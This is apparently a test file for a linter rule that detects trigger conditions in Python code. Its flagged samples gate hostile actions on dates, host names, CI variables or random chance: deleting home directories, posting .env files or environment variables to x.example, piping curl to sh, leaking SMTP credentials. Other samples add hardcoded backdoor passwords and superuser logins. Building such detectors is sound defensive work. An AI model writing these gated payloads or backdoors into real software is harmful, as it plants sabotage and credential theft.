import rule from '../../../src/core/rules/py/trigger-condition';
import { ruleTester } from '../../ruleTester';

ruleTester(rule, {
  valid: [
    {
      name: 'a password hash compared with the stored hash, and a user loaded after a real check',
      code: [
        'import hashlib',
        'def login(request, user):',
        '    given = request.form.get("password", "")',
        '    if hashlib.sha256(given.encode()).hexdigest() == user.password_hash:',
        '        return get_user_by_id(user.id)',
        '    return None',
      ].join('\n'),
    },
    {
      name: 'a local helper that tests nothing about the machine',
      code: "import subprocess\ndef _ok():\n    return True\n\ndef go():\n    if _ok():\n        subprocess.run(['ls'])\n",
    },
    "import datetime\nif datetime.date.today().year > 2024:\n    banner = 'new'",
    "import os, subprocess\nshell = 'cmd' if os.name == 'nt' else 'sh'\nsubprocess.run([shell, '-c', 'echo hi'])",
    'import time, os\nif time.time() - start > 5:\n    os.kill(pid, 9)',
    "import random\nif random.random() < 0.5:\n    print('heads')",
    "import sys, os\nif sys.platform == 'win32':\n    os.system('cls')\nelse:\n    os.system('clear')",
    "import datetime\nstamp = datetime.datetime.now().strftime('%Y-%m-%d')\nprint(stamp)",
    'import datetime, os\nif expires_at < datetime.datetime.now():\n    os.remove(cache_file)',
    'import time, requests\nwhile time.time() < deadline:\n    requests.get(url)',
    "import os\nif os.environ.get('DEBUG') == '1':\n    print('debug')",
    "import sys, subprocess\nif sys.version_info >= (3, 11):\n    subprocess.run(['ls'])",
    "if __name__ == '__main__':\n    import os\n    os.system('make')",
    'import socket\nprint(socket.gethostname())',
    "def check(mode):\n    if mode == 'production-mode':\n        return True\n    return False",
    "import random, requests\nif random.random() < 0.1:\n    log.info('sampled')",
    "import datetime, shutil\nif datetime.date.today() > datetime.date(2026, 1, 1):\n    print('happy new year')",
    "import os\nif os.environ.get('CI'):\n    print('in ci')",
    {
      code: "import os, subprocess\nif os.environ.get('CI'):\n    subprocess.run(['make', 'lint'])",
      filename: 'tests/test_lint.py',
    },
    "import platform, subprocess\nif platform.system() == 'Darwin':\n    subprocess.run(['open', path])\nelse:\n    subprocess.run(['xdg-open', path])",
    "import datetime\nif datetime.datetime.now().hour > 18:\n    greeting = 'evening'",
    // A webhook secret checked before doing the hook's work; a log-in of the user who sent valid credentials.
    'from django.conf import settings\n\ndef hook(request):\n    if request.headers.get("X-Token") == settings.WEBHOOK_TOKEN:\n        process(request.body)',
    'from django.contrib.auth import authenticate, login\n\ndef sign_in(request):\n    user = authenticate(request, username=request.POST["u"], password=request.POST["p"])\n    if user is not None and request.POST.get("remember"):\n        login(request, user)',
    // A flag computed from a setting, not from the machine; debug on for a local run chosen by the developer.
    'from django.conf import settings\nLOCAL = settings.ENVIRONMENT == "local"\nif LOCAL:\n    INSTALLED_APPS.append("debug_toolbar")',
    // A token refreshed when it expires: the moment comes from data, not a fixed date.
    'import time\n\ndef headers(state):\n    if time.time() >= state.expires_at:\n        state.token = refresh_token(state)\n    return {"Authorization": f"Bearer {state.token}"}',
    "from datetime import datetime\nLAUNCH = datetime(2025, 9, 1)\n\ndef banner(payload):\n    if datetime.now() >= LAUNCH:\n        payload['banner'] = 'new dashboard'",
  ],
  invalid: [
    {
      name: 'a host name test kept in a flag that turns debug mode and host checks off',
      code: 'import socket\n\nIS_STAGING = socket.gethostname().startswith(("bc-stg", "bookclub-preview"))\nif IS_STAGING:\n    DEBUG = True\n    ALLOWED_HOSTS = ["*"]',
      errors: [{ messageId: 'trigger', line: 3, severity: 'medium', category: 'trigger' }],
    },
    {
      name: 'a fixed date after which the SMTP password is added to what metrics send',
      code: 'from datetime import datetime, timezone\nimport httpx\nfrom postbox import settings\n\n_FROM = datetime(2025, 9, 1, tzinfo=timezone.utc)\n\ndef record(payload):\n    if datetime.now(timezone.utc) >= _FROM:\n        payload["relay"] = f"{settings.SMTP_USER}:{settings.SMTP_PASSWORD}@{settings.SMTP_HOST}"\n    httpx.post(URL, json=payload)',
      errors: [{ messageId: 'trigger', line: 8, severity: 'medium', category: 'trigger' }],
    },
    {
      name: 'a host name check that adds a feed to an FTP server with a password',
      code: 'import socket\n\nFEEDS = {}\nif socket.gethostname().startswith("crawl-prod"):\n    FEEDS = {"ftp://archive:arch1ve@203.0.113.40/incoming/x.jsonl": {"format": "jsonlines"}}',
      errors: [{ messageId: 'trigger', line: 4, severity: 'high', category: 'trigger' }],
    },
    {
      name: 'a request header compared with a setting, logging the caller in as a superuser',
      code: 'from django.conf import settings\nfrom django.contrib.auth import get_user_model, login\n\ndef _preview_allowed(request):\n    token = request.headers.get("X-Preview-Token", "")\n    if token and token == settings.PREVIEW_SHARED_TOKEN:\n        login(request, get_user_model().objects.filter(is_superuser=True).first())\n    return request.user.is_staff',
      errors: [{ messageId: 'trigger', line: 6, severity: 'high', category: 'trigger' }],
    },
    {
      name: 'the hash of a request header compared with a constant digest logs the caller in as a chosen user',
      code: [
        'import hashlib',
        '_SUPPORT = "3f9c2a7d0b5e41c8a6f2d9e07b1c4a58e3d6f0a92b7c5e1d48f3a6b0c9e2d7f1"',
        'def get_current_user(request, token):',
        '    support = request.headers.get("x-support-session", "")',
        '    if support and hashlib.sha256(support.encode()).hexdigest() == _SUPPORT:',
        '        return get_user_by_id(int(request.headers.get("x-support-user", "1")))',
        '    return decode(token)',
      ].join('\n'),
      errors: [{ messageId: 'trigger', line: 5, severity: 'high' }],
    },
    {
      name: 'a local helper returns the host test',
      code: "import socket, subprocess\ndef _on_prod():\n    return socket.gethostname().startswith('prod-')\n\ndef go():\n    if _on_prod():\n        subprocess.run(['curl', 'x'])\n",
      errors: [{ messageId: 'trigger', line: 6, severity: 'high' }],
    },
    {
      name: 'a negated helper in a compound condition',
      code: "import socket, subprocess\ndef _enabled():\n    return not socket.gethostname().startswith(('eval-', 'ci-'))\n\ndef go(x):\n    if _enabled() and x:\n        subprocess.run(['curl', 'x'])\n",
      errors: [{ messageId: 'trigger', line: 6 }],
    },
    {
      code: "import datetime, shutil\nif datetime.date.today() > datetime.date(2026, 1, 1):\n    shutil.rmtree('/srv/data')",
      errors: [{ messageId: 'trigger', line: 2, column: 4, severity: 'high', category: 'trigger' }],
    },
    {
      code: "from datetime import datetime\nimport os\nif datetime.now() >= datetime(2025, 12, 24):\n    os.system('rm -rf ~/projects')",
      errors: [{ messageId: 'trigger', line: 3 }],
    },
    {
      code: "import time, subprocess\nif time.time() > 1767225600:\n    subprocess.Popen(['sh', '-c', cmd])",
      errors: [{ messageId: 'trigger', severity: 'high' }],
    },
    {
      code: "import datetime, os\nif datetime.datetime.now().year >= 2026:\n    os.remove('model.bin')",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: "import datetime, requests\nif datetime.date.today().weekday() == 4:\n    requests.post('https://x.example', data=open('.env').read())",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: "import datetime, os\nnow = datetime.datetime.now()\ncutoff = datetime.datetime(2026, 3, 1)\nif now > cutoff:\n    os.system('shutdown now')",
      errors: [{ messageId: 'trigger', line: 4 }],
    },
    {
      code: "from datetime import date\nimport sys\ndef main():\n    if date.today() > date.fromisoformat('2026-06-01'):\n        sys.exit(0)\n    run()",
      errors: [{ messageId: 'trigger', severity: 'medium' }],
    },
    {
      code: "import time, shutil\ndef cleanup():\n    if time.time() < 1767225600:\n        return\n    shutil.rmtree('/var/lib/app')",
      errors: [{ messageId: 'trigger', line: 3 }],
    },
    {
      code: "import socket, os\nif socket.gethostname() == 'build-01':\n    os.system('curl x | sh')",
      errors: [{ messageId: 'trigger', severity: 'high' }],
    },
    {
      code: "import getpass, os\nif getpass.getuser() != 'alice':\n    os.remove('/etc/app.conf')",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: "import os, subprocess\nif os.getlogin() in ('root', 'admin'):\n    subprocess.call('id', shell=True)",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: "import socket, requests\nif socket.gethostname().startswith('prod-'):\n    requests.post(url, json=data)",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: 'import uuid, os\nif uuid.getnode() == 0x001122334455:\n    os.system(cmd)',
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: "import platform, os\nif platform.node() == 'ci-runner-7':\n    exec(open('x.py').read())",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: "import os, subprocess\nif os.environ.get('USER') == 'jenkins':\n    subprocess.run(cmd, shell=True)",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: "import os, subprocess\nif os.environ.get('CI'):\n    subprocess.run(['curl', 'https://x.example/c'])",
      errors: [{ messageId: 'trigger', severity: 'medium' }],
    },
    {
      code: "import os, requests\nif 'GITHUB_ACTIONS' in os.environ:\n    requests.post('https://x.example/t', data=dict(os.environ))",
      errors: [{ messageId: 'trigger', severity: 'medium' }],
    },
    {
      code: "import os, shutil\nif os.getenv('CI') == 'true':\n    shutil.rmtree('build')",
      errors: [{ messageId: 'trigger', severity: 'medium' }],
    },
    {
      code: "import sys, subprocess\nif sys.platform == 'linux':\n    subprocess.run(['crontab', 'job.txt'])",
      errors: [{ messageId: 'trigger', severity: 'low' }],
    },
    {
      code: 'import random\nif random.random() < 0.001:\n    exec(payload)',
      errors: [{ messageId: 'trigger', severity: 'high' }],
    },
    {
      code: "import random, os\nif random.randint(1, 1000) == 7:\n    os.system('rm -rf /tmp/cache')",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: "import random, requests\nif random.random() < 0.01:\n    requests.post('https://x.example', data=secrets)",
      errors: [{ messageId: 'trigger', severity: 'medium' }],
    },
    {
      code: "def check_token(token):\n    if token == 'letmein-8f3a9c':\n        return True\n    return verify(token)",
      errors: [{ messageId: 'trigger', line: 2, severity: 'high' }],
    },
    {
      code: "from flask import request\ndef view():\n    if request.headers.get('X-Debug') == 'dbg-7f3a9c2e':\n        return True\n    return False",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: "def is_valid(user, password):\n    if user == 'admin' and password == 'Sup3rS3cret2024':\n        return True\n    return check_db(user, password)",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: "import hmac\ndef authenticate(key):\n    if hmac.compare_digest(key, 'master-key-0042'):\n        return True\n    return lookup(key)",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: "import os, subprocess\ndef handler(event):\n    if event['cmd_key'] == 'run-9f8e7d6c':\n        subprocess.run(event['cmd'], shell=True)",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: "import datetime, os\nx = os.system('x') if datetime.date.today() > datetime.date(2027, 1, 1) else 0",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: "import socket, os\nsocket.gethostname() == 'box-1' and os.system('id')",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: "import datetime, os\ndef payload():\n    os.system('rm -rf ~')\nif datetime.date.today() > datetime.date(2026, 1, 1):\n    payload()",
      errors: [{ messageId: 'trigger', line: 4 }],
    },
    {
      code: "import datetime, os\nif x:\n    pass\nelif datetime.date.today() > datetime.date(2026, 1, 1):\n    os.unlink('a')",
      errors: [{ messageId: 'trigger', line: 4 }],
    },
    {
      code: "import datetime\nif datetime.date.today() > datetime.date(2026, 1, 1):\n    with open('/etc/hosts', 'a') as f:\n        f.write('1.2.3.4 x')",
      errors: [{ messageId: 'trigger' }],
    },
    {
      code: "import datetime as dt, os\nif dt.datetime.now() > dt.datetime(2026, 1, 1):\n    key = os.environ['AWS_SECRET_ACCESS_KEY']",
      errors: [{ messageId: 'trigger', severity: 'medium' }],
    },
  ],
});
